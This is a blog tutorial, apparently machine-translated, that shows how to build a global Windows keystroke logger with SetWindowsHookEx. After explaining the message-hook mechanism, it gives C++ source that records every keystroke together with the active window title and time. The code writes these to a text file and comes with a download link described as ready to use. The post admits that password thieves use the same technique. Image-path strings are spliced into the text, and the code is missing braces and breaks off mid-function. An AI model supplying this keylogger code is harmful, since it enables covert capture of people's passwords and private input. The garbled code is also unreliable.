Teach you how to make a keyboard recorder with SetWindowsHookEx

Posted by fahrvergnuugen on Sat, 20 Nov 2021 14:09:57 +0100

"Wuji, how much do you remember what I taught you?"
"Master Hui, I only remember more than half."
"And now?"
"There is less than half left."
"And now?"
"I've forgotten everything!"
"OK, you can go!"

Envy Zhang Wuji, forget his martial arts and defeat the enemy; I forgot my martial arts and cried.I haven't touched this for more than a year. I forgot it completely. Fortunately, the muscle memory is still there. It's very kind to learn. I don't talk much nonsense and get to the point.


Hook is one of the most flexible skills in programming. Under windows, hook has two meanings:
1. The message hook mechanism provided by the system, that is, the hook we want to implement today, will be discussed later.
2. Custom Hook programming skills

Custom Hook programming skills are an advanced technology based on specific system structure, file structure and assembly language. When used freely, it is like holding a dragon killing knife and leaning on the sky sword.

Operating environment:

visual studio 2015Windows 10

Message Hook

Windows message hook is mainly disconnected through SetWindowsHookEx and UnhookWindowsHookEx(), so we mainly learn to use these two functions next.

The reason why we can perform message Hook is because of the message mechanism of Windows; In short:

Windows system is based on the event driven mechanism. Each event is a message. Each running program, that is, the so-called process, maintains one or more message queues. The number of message queues depends on the number of threads contained in the process. Since a process must have at least one thread, a process must have at least one message queue. Although the message dispatch of windows system is based on threads, not all threads have message queues. A newly created thread does not have message queues. Windows creates message queues for threads only when the thread calls GDI or USER32 library functions for the first time. Messages are finally processed by the window belonging to the thread. Ordinary applications can only get the messages in the message queue of the thread, that is, they can only get the messages assigned by the system and belonging to the thread. In other words, a thread does not know what happened to other threads during operation. However, there is a special kind of program that can access the message queue of other threads, that is, hook program.

(Windows message mechanism is still very important. I won't repeat it here.Understanding these contents is enough for our next study. If you want to know more, I suggest reading this article https://zhuanlan.zhihu.com/p/42992978)

Writing a hook program is a mechanism provided by the Windows system to the user to intervene in the running process of Windows. Through the hook program, Windows exposes the internal flowing messages to the user, so that the user can carry out special processing on the messages before they are dispatched by the window manager, such as tracking the message flow when debugging the program. However, everything has its two sides. Some password theft tools use the system keyboard hook tointercept the keyboard messages of other programs, so as to obtain the passwords entered by users. It can be seen that illegal hook programs are very harmful to computer information security.

(then today we will implement a simple keyboard recorder through message hook. Hey, know yourself and the enemy, and you will be invincible in a hundred battles)!

Message Hook process

Step 1: install the hook

Last step: unload the hook

Intermediate step: we need to implement the callback function to realize our own operation. For example, get keyboard input information and save it to txt fileImplementation of keyboard recorder through setWindowsHookEx()

Implementation principle

When the keyboard is pressed, a message isgenerated, and the key message is added to the system message queue. The operating system takes out the message from the message queue and adds it to the message queue of the corresponding program;

The application uses the message Hook to fetch the message WM from its own message queue_ Keydown, call the message processing function. We can add message hooks between system message queues sothat messages can be captured before they are sent to applications.

You can add hooks multiple times to form a hook chain, and you can call functions in turn.

Installation hook


     //Hook Type
    _In_ int idHook,
    //Callback function address
    _In_ HOOKPROC lpfn,
    //Instance handle (including hook function)_In_opt_ HINSTANCE hmod,
    //Thread ID, the thread to be hooked (if it is 0, it is not specified, global)
    _In_ DWORD dwThreadId);

The hook types that can be set are as follows:

Macro valuemeaning
WH_MSGFILTERIntercepts messages that the user interacts with the control
WH_KEYBOARDIntercepting keyboard messages
WH_GETMESSAGEIntercepts messages sent from the message queue
WH_CBTIntercept basic system messages, activate, establish,destroy, minimize, maximize, move, change size and other window events
WH_MOUSEIntercepting mouse messages
WH_CALLWNDPROCRETIntercepts the processed message of the target window

Here is the hook keyboardmessage:

        WH_KEYBOARD_LL, //  low-level keyboard input events
        HookProcedure, //  Callback function address
        GetModuleHandle(NULL), // A handle to the DLL containing the hook procedure
        NULL //Thread ID, the thread to be hooked (if it is 0, it is not specified, global)

Use the API function SetWindowsHookEx() to install an application defined Hook procedure into the Hook linked list. The SetWindowsHookEx function always installs the Hook subroutine at the beginning of the Hook chain. When an event monitored by a specified type of Hook occurs, the system calls the Hook subroutine at the beginning of the Hook chain associated with the Hook. The Hook subprocess in each Hook chain decides whether to pass this event to the next Hook subprocess. The Hook subprocess needs to call the CallNextHookEx function to pass the event to the next Hook subprocess.Sets the hook for the next subroutine in the hook chain. In the hook procedure, calling the hook function with control function after processing the message, if it wants to continue the message, it must call the API function CallNextHookEx in another SDK to pass it to execute the next hook procedure referred to in the hook list.

    //Hook handle, returned by SetWindowsHookEx() function.
    _In_opt_ HHOOK hhk,
    //Hook event code, the event code of the hook process of the callback function
    _In_ int nCode,
    //The wParam value passed to the hook routine
    _In_ WPARAM wParam,
    //lParam value passed to hook subroutine
    _In_ LPARAM lParam);

Unloading hook

Uninstall the hook API. After using the hook, you need to uninstall it with UnhookWindowsHookEx(), otherwise it will cause trouble.

     //Handle to the hook to delete. This parameter is the return value of the previous function SetWindowsHookEx
    _In_ HHOOK hhk);

Keyboard record

The main functions are realized through the callback function HookProcedure() in the SetwindowsHookEx() parameter.

LRESULT CALLBACK HookProcedure(int nCode, WPARAM wParam, LPARAM lParam)In it, we will obtain the state of 256 virtual keys and convert them into real characters

[the external chain image transfer fails. The source station may have an anti-theft chain mechanism. It is recommended to save the image and upload it directly (img-fwkl4x3e-1631233055133) (C: \ users \ 11073 \ appdata \ roaming \ typora \ typora user images \ image-20210908224511747. PNG)]

Output: Here we write two ways

1. Output to console

2. Output to text and save

Some logic

Obtain the current window and current time;

Save the recorded keyboard message to a file;


x86 effect:

x64 bit

Save in txt file


github download, can be used directly, or modify the test
Link: windows hook.

//  Using SetWindowsHookEx to implement keyboard recorder
#include <Windows.h>
#include <string>
#include <fstream>
#include <sstream>
#include <iostream>
#include "keyboard message Hook.h"
#include "vld.h"
//  Global keyboard Hook handle
HHOOK kKeyboardHook;
//  Shift Key
BOOL bShift = FALSE;
//  Store keyboard messages
std::string fileName = "D:\\test.txt";
//  Windows Title Text -260 char-
char cWindow[1000];
//  NULL is ok
HWND lastWindow = NULL;
int main()
    std::cout << "start !" << std::endl;
    //  Set keyboard hook
    if (!HookKeyBoard())
        std::cout << "Hook KeyBoard Failed!" << std::endl;
    unhookKeyboard();//Release hook

The keyboard hook() function sets the keyboard hook
 Return value: whether the hook succeeded
BOOL HookKeyBoard()
    BOOL bRet = FALSE;kKeyboardHook = SetWindowsHookEx(WH_KEYBOARD_LL, //  low-level keyboard input events
                                    HookProcedure, //  Callback function address
                                    GetModuleHandle(NULL), // A handle to the DLL containing the hook procedure
                                    NULL //Thread ID, the thread to be hooked (if it is 0, it is not specified, global)
    if (!kKeyboardHook)
        //  If SetWindowsHookEx fails
        std::cout << "[!] Failed to get handle from SetWindowsHookEx()" << std::endl;
        std::cout << "[*] KeyCapture handle ready" << std::endl;
        MSG Msg{};  //  Unified initialization
        while (GetMessage(&Msg, NULL, 0, 0) > 0)
        bRet = TRUE;
    return bRet;
Function: hook callback
 Return value: whether the hook succeeded
LRESULT CALLBACK HookProcedure(int nCode, WPARAM wParam, LPARAM lParam)
    std::ofstream myfile(fileName, std::ios::out | std::ios::app);BOOL  caps = FALSE;  //  Default uppercase off
    SHORT capsShort = GetKeyState(VK_CAPITAL);
    std::string outPut;
    std::stringstream ssTemp;  //  string character stream
    if (capsShort > 0)
        //  If it is greater than 0, press the uppercase key to turn on uppercase; Conversely, lowercase
        caps = TRUE;WH_KEYBOARD_LL uses the LowLevelKeyboardProc Call Back
    LINK = https://msdn.microsoft.com/en-us/library/windows/desktop/ms644985(v=vs.85).aspx
    //  LowLevelKeyboardProc Structure
    //  The wParam and lParam parameters contain information about keyboard messages.
    if (nCode == HC_ACTION)
        // Messsage data is ready for pickup
        // Check for SHIFT key
        if (p->vkCode == VK_LSHIFT || p->vkCode == VK_RSHIFT)
            if (wParam == WM_KEYDOWN)
                bShift = TRUE;
            if (wParam == WM_KEYUP)
                bShift = FALSE;
                bShift = FALSE;
        //  Start Loging keys now we are setup
        if(wParam == WM_SYSKEYDOWN || wParam == WM_KEYDOWN)
            //  Retrieves a handle to the foreground window (the window with which the user is currently working).
            HWND currentWindow = GetForegroundWindow();  //  Return to the foreground window to get the current window
            //  Check if we need to write new window output
            if (currentWindow != lastWindow)
                SYSTEMTIME t{};
                GetLocalTime(&t);  //  Get current system time
                int day = t.wDay;
                int month = t.wMonth;
                int year = t.wYear;
                int hour = t.wHour;
                int min = t.wMinute;
                int sec = t.wSecond;
                int dayName = t.wDayOfWeek;
                //  Build our outputheader
                ssTemp << "\n\n[+] " << Dayofweek(dayName) << " - " << day << "/" << month << "/" << year << "  ";
                ssTemp << hour << ":" << min << ":" << sec;
                //  GetWindowTextACCC
                int c = GetWindowTextA(GetForegroundWindow(), cWindow, sizeof(cWindow));
                std::cout << c;
                ssTemp << " - Current Window: " << cWindow << "\n\n";
                std::cout << ssTemp.str() << std::endl;
                myfile << ssTemp.str();
                // Setup for next CallBackCC
                lastWindow = currentWindow;
            //  Now capture keys
            if (p->vkCode)
                ssTemp << HookCode(p->vkCode, caps, bShift);
                std::cout << ssTemp.str();
                myfile << ssTemp.str();
            //  Final output logic
    //  hook procedure must pass the message *Always*
    return CallNextHookEx(NULL, nCode, wParam, lParam);  //  hook chain
Function action: time
 Return value: return time
std::string Dayofweek(int code)
    // Return Day of the year in text
    std::string name;
    switch (code)
    case 0: name = "[SUNDAY]"; break;
    case 1: name = "[MONDAY]"; break;
    case 2: name = "[TUESDAY]"; break;
    case 3: name = "[WENSDAY]"; break;
    case 4: name = "[THURSDAY]"; break;
    case 5: name = "[FRIDAY]"; break;
    case 6: name = "[SATURDAY]"; break;
        name = "[UNKOWN]";
    return name;

The function converts the obtained keyboard message into characters
 Parameter Description: keyboard message obtained by DWORD code
BOOL caps Whether to turn onuppercase
BOOL shift Press shift
 Return value: converted character
std::string HookCode(DWORD code, BOOL caps, BOOL shift)
    std::string key;
    switch (code) // SWITCH ON INT
        // Char keys for ASCI
